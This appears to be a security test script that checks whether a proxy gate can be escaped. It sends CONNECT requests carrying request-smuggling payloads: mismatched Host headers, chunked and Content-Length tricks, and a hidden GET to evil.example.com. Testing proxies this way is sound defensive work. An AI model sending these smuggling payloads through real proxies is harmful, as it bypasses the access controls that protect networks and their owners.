# SPDX-License-Identifier: Apache-2.0
# Trick: CONNECT with a body, with bytes behind its head, with two hosts, chunked
# Gain: bytes of the tunnel before there is one, or the next request
# Control: none, only the gate speaks CONNECT
from trick import *

if BARE:
    untried("there is no proxy")
hidden = "GET http://evil.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n"
outs = []
for extra in ("", "Content-Length: 3\r\n", "Transfer-Encoding: chunked\r\n", "Host: evil.example.com:443\r\n", "Content-Length: 0\r\n", "Upgrade: h2c\r\n"):
    for more in (hidden, "brig-smuggled", "0\r\n\r\n" + hidden):
        outs.append((extra, proxied(f"CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com:443\r\n{extra}\r\n{more}".encode(), 0.15)))
        outs.append((extra, proxied(f"CONNECT evil.example.com:443 HTTP/1.1\r\nHost: api.example.com:443\r\n{extra}\r\n{more}".encode(), 0.1)))
for name, out in outs:
    if out.count(b"HTTP/1.1 200") > 1 or b'"headers"' in out:
        escaped(f"{name!r}: what came behind was answered")
stopped("nothing came behind")
